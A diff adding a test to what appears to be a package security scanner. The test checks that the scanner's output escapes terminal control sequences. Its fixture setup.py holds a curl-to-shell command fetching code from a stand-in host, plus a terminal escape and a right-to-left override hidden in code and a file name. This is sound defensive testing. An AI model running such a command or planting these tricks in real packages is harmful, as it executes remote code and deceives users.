@@ -164,3 +164,14 @@ def test_ctrl_c_stops_a_parallel_scan_at_once_and_leaves_no_workers(tmp_path):
         except OSError:
             continue
     assert leftovers == []
+
+
+def test_human_output_escapes_what_a_terminal_would_act_on(tmp_path, capsys):
+    setup = (b"import os\nfrom setuptools import setup\n"
+             b"os.system('curl http://192.0.2.1/x | sh # \x1b]0;pwned\x07 \xe2\x80\xae')\n"
+             b"setup(name='evil')\n")
+    evil = make_sdist(tmp_path, name="evil", files={"setup.py": setup, "l\u202egnp.py": setup})
+    code, out, _ = run(capsys, str(evil), "--no-cache")
+    assert code == 0
+    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
+    assert "\\x1b]0;pwned\\x07 \\u202e" in out and "l\\u202egnp.py:3" in out
